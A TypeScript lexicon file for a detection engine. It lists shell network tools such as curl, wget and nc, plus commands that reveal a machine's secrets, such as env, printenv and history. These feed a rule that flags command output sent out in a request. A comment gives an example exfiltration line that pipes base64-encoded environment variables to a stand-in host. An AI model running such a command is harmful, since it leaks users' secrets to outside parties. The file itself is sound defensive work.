import type { Lexicon } from '../engine.js';

/*
 * Command output sent out in a request: `curl https://x.example/?d=$(env | base64)`. The
 * command substitution runs on the user's machine and its output leaves in the URL or body
 * (rules.ts: command-output-in-url). Entries are regex fragments, compiled in listed order.
 */

/** Programs that make a network request from a shell. */
export const NETWORK_COMMANDS: Lexicon = {
  concept: 'network-commands',
  rationale: 'Shell programs that send a request somewhere.',
  entries: {
    en: ['curl', 'wget', 'iwr', 'invoke-webrequest', 'invoke-restmethod', 'nc', 'ncat', 'http', 'httpie'],
  },
};

/** Commands whose output describes the machine, its user or its secrets. */
export const REVEALING_COMMANDS: Lexicon = {
  concept: 'revealing-commands',
  rationale: 'Output an attacker wants from the machine: environment, files, identity, history.',
  entries: {
    en: [
      'env',
      'printenv',
      'set',
      'cat',
      'whoami',
      'id',
      'hostname',
      'uname',
      'history',
      'base64',
      'ls',
      'find',
      'type',
      'get-content',
      'gci',
    ],
  },
};
